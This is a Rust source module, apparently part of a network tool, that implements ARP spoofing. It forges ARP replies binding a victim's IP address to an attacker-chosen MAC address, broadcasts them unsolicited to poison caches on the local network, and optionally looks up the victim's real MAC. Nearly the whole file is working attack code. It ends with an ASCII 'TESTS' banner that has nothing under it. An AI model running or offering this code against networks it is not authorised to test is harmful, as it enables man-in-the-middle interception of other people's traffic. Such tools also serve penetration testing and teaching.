//! Forged ARP replies.
//!
//! A spoof frame claims "`victim` is at `forged_mac`" and is broadcast
//! unsolicited; most ARP caches accept it without a matching request.

use std::net::Ipv4Addr;
use std::time::Duration;

use arpr_common::config::Config;
use arpr_common::network::sender::SenderConfig;
use arpr_common::network::target::Target;
use arpr_common::validate;
use arpr_protocols::{ArpFrame, LinkFrame, arp};
use pnet::util::MacAddr;
use tracing::{info, warn};

use crate::error::Result;
use crate::scanner;
use crate::transport::LinkTransport;

/// Outcome of one spoof.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SpoofReport {
    pub frame: ArpFrame,
    /// The victim's real MAC, when it was looked up and answered.
    pub victim_mac: Option<MacAddr>,
}

pub struct Spoofer<T: LinkTransport> {
    transport: T,
    gateway: Option<Ipv4Addr>,
    resolver: Option<SenderConfig>,
    timeout: Duration,
    resolve_victim: bool,
}

impl<T: LinkTransport> Spoofer<T> {
    pub fn new(transport: T, config: &Config) -> Self {
        Self {
            transport,
            gateway: config.gateway,
            resolver: None,
            timeout: config.scan_timeout,
            resolve_victim: config.resolve_victim,
        }
    }

    /// Identity used to look up the victim's real MAC after sending.
    pub fn with_resolver(mut self, sender: SenderConfig) -> Self {
        self.resolver = Some(sender);
        self
    }

    /// Sends a single forged reply binding `victim_ip` to `forged_mac`.
    ///
    /// Both addresses are checked before anything reaches the transport.
    /// Calling it again simply repeats the claim.
    pub fn spoof(&mut self, forged_mac: &str, victim_ip: &str) -> Result<SpoofReport> {
        let forged_mac: MacAddr = validate::parse_mac(forged_mac)?;
        let victim_ip: Ipv4Addr = validate::parse_ip(victim_ip)?;

        let frame: ArpFrame = forge(forged_mac, victim_ip, self.gateway);
        let link_frame: LinkFrame = arp::encapsulate(&frame, MacAddr::broadcast())?;
        self.transport.send(&link_frame)?;
        info!("Sent {}", frame.summary());

        let victim_mac: Option<MacAddr> = self.lookup_victim(victim_ip);
        if let Some(mac) = victim_mac {
            info!("MAC address of {victim_ip} is {mac}");
        }

        Ok(SpoofReport { frame, victim_mac })
    }

    fn lookup_victim(&mut self, victim_ip: Ipv4Addr) -> Option<MacAddr> {
        if !self.resolve_victim {
            return None;
        }
        let sender: SenderConfig = self.resolver?;
        let target = Target::Host {
            target_addr: victim_ip,
        };
        match scanner::resolve(&mut self.transport, &sender, &target, self.timeout) {
            Ok(hosts) => hosts.first().map(|host| host.mac),
            Err(e) => {
                warn!("Could not resolve {victim_ip}: {e}");
                None
            }
        }
    }

    pub fn into_transport(self) -> T {
        self.transport
    }
}

/// The forged reply: sender is the victim at `forged_mac`, addressed to
/// everyone on behalf of `gateway` (`0.0.0.0` when none is configured).
pub fn forge(forged_mac: MacAddr, victim_ip: Ipv4Addr, gateway: Option<Ipv4Addr>) -> ArpFrame {
    arp::build_reply(
        forged_mac,
        victim_ip,
        MacAddr::broadcast(),
        gateway.unwrap_or(Ipv4Addr::UNSPECIFIED),
    )
}

// ╔════════════════════════════════════════════╗
// ║ ████████╗███████╗███████╗████████╗███████╗ ║
// ║ ╚══██╔══╝██╔════╝██╔════╝╚══██╔══╝██╔════╝ ║
// ║    ██║   █████╗  ███████╗   ██║   ███████╗ ║
// ║    ██║   ██╔══╝  ╚════██║   ██║   ╚════██║ ║
// ║    ██║   ███████╗███████║   ██║   ███████║ ║
// ║    ╚═╝   ╚══════╝╚══════╝   ╚═╝   ╚══════╝ ║
// ╚════════════════════════════════════════════╝
